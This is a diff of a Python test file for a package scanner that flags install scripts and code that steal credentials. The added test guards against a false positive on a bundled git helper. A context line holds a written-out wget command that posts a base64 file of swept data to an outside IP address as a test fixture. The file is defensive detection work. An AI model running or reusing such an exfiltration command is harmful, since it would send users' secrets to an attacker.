@@ -1164,3 +1164,15 @@ def test_a_shipped_shell_script_no_hook_runs_that_sweeps_and_sends_credentials()
         'wget -q -O /dev/null --post-file="$R.b64" "http://203.0.113.47:8080/health/$(hostname)"', 'ls -la "$R"')
     assert not [f for f in run({"index.js": "module.exports = {};\n", "feature/verify.sh": doctor})
                 if f.rule == "install-script/sends-secrets"]
+
+
+def test_a_push_permission_in_a_bundle_is_no_git_push():
+    # (wrangler 4.164.0's bundle, found by the final run: an image registry's `permissions: ["push", "pull"]`, a git
+    # process elsewhere in the file, URLs everywhere: the push must be a git process's, with its remote beside it)
+    bundle = ("const { execFileSync } = require('child_process');\n"
+              "const DOCS = 'https://developers.example/workers/';\n"
+              "function branch() { return execFileSync('git', ['rev-parse', '--abbrev-ref', 'HEAD'], { encoding: 'utf8' }); }\n"
+              + "\n" * 40 +
+              "async function login(api) { return api.credentials({ permissions: ['push', 'pull'], env: JSON.stringify(process.env) }); }\n"
+              "module.exports = { branch, login };\n")
+    assert "code/git-push-exfil" not in rules(run({"index.js": bundle}))
